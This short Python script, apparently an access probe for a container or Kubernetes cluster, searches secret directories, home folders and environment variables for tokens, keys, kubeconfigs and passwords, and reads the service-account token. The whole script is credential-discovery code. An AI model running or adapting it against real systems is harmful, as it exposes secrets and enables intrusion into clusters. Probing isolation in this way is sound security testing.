# Looks for credentials of the cluster.
import os, re
from attempt import attempt, end, read

for top in ("/var/run/secrets", "/run/secrets", "/etc/kubernetes", "/var/lib/kubelet", "/root", "/home", "/job", "/runner"):
    for at, folders, names in os.walk(top):
        for name in names:
            path = os.path.join(at, name)
            if re.search(r"token|secret|kubeconfig|\.crt$|\.key$|\.pem$|credential|id_rsa", name):
                attempt(path, read, path)
for name in os.environ:
    if re.search("KUBERNETES|SERVICE|TOKEN|SECRET|PASSWORD|KEY|KAFKA|MONGO|TEMPORAL|CODESAGA", name):
        attempt("variable " + name, lambda: None)
attempt("a token", read, "/var/run/secrets/kubernetes.io/serviceaccount/token")
end()
